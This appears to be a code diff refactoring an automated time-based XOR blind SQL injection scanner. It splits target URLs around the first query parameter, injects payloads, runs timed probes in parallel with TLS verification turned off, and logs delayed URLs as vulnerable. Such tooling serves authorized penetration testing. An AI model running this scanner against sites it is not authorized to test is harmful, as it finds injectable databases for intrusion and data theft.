-                response = requests.get(test_url, timeout=timeout, allow_redirects=True, verify=False)
-                elapsed = time.time() - start
-                
-                if elapsed > delay_threshold:
-                    logger.success(f"[DELAYED] {test_url} (delay: {elapsed:.1f}s)")
-                    vulnerable.append((test_url, payload, elapsed))
-                    break  # Move to next URL after finding vulnerability
-                    
-            except requests.exceptions.Timeout:
-                logger.success(f"[TIMEOUT] {test_url} (>{timeout}s)")
-                vulnerable.append((test_url, payload, timeout))
-                break  # Move to next URL after finding vulnerability
-                
-            except requests.exceptions.ConnectionError:
-                logger.debug(f"Connection error for {test_url}")
-                continue
-                
-            except requests.exceptions.RequestException as e:
-                logger.debug(f"Request failed for {test_url}: {e}")
-                continue
-                
-            except Exception as e:
-                logger.debug(f"Unexpected error for {test_url}: {e}")
-                continue
+        # Split the URL once; each payload is then a single concatenation
+        prefix, suffix = prepare_injection(url)
+        probes = []
+        for payload in XOR_PAYLOADS:
+            injected = prefix + payload + suffix
+            screen = (prefix + shorten_payload(payload, screen_sleep) + suffix, None)
+            probes.append((screen, (injected, None), injected, (injected, payload)))
+        baseline = baselines.get(session, url)
+        return send_timed_probes(session, probes, timeout, screen_threshold, delay_threshold, logger, progress,
+                                 baseline=baseline)
+    
+    max_workers = config['sqli']['max_workers']
+    with build_probe_session(max_workers) as session:
+        vulnerable = run_probe_tasks(list(enumerate(urls, 1)), test_url, max_workers, logger)
     
     # Save results
     if vulnerable:
         results_file = targets_file.parent / "sqli_xor_results.txt"
         with results_file.open('w') as f:
-            for url, payload, elapsed in vulnerable:
-                f.write(f"{url}\t{payload}\t{elapsed:.1f}s\n")
+            f.writelines(f"{url}\t{payload}\t{elapsed:.1f}s\n" for url, payload, elapsed in vulnerable)
         logger.success(f"XOR blind SQLi test found {len(vulnerable)} vulnerable URLs.")
         return {"vulnerable_count": len(vulnerable), "results_file": str(results_file)}
     else:
         logger.warning("No vulnerable URLs found in XOR blind SQLi test.")
         return {"vulnerable_count": 0}
 
-def inject_payload(url: str, payload: str) -> str:
-    """Inject payload into URL parameter."""
+def filter_injectable_urls(urls: List[str], logger: Logger) -> List[str]:
+    """Keep URLs with a query parameter; without one inject_payload only appends to the path."""
+    injectable = [url for url in urls if '=' in url.partition('?')[2]]
+    skipped = len(urls) - len(injectable)
+    if skipped:
+        logger.info(f"Skipping {skipped} URLs without an injectable parameter.")
+    return injectable
+
+def prepare_injection(url: str) -> Tuple[str, str]:
+    """Split a URL around the value of its first parameter, so prefix + payload + suffix injects a payload."""
     if '?' in url:
         base, query = url.split('?', 1)
         if '=' in query:
             param, rest = query.split('=', 1)
-            test_url = f"{base}?{param}={payload}"
-            if '&' in rest:
-                test_url += '&' + rest.split('&', 1)[1]
-            return test_url
-        else:
-            return url + payload
-    else:
-        return url + payload 
\ No newline at end of file
+            suffix = '&' + rest.split('&', 1)[1] if '&' in rest else ''
+            return f"{base}?{param}=", suffix
+    return url, ''
+
+def inject_payload(url: str, payload: str) -> str:
+    """Inject payload into URL parameter."""
+    prefix, suffix = prepare_injection(url)
+    return prefix + payload + suffix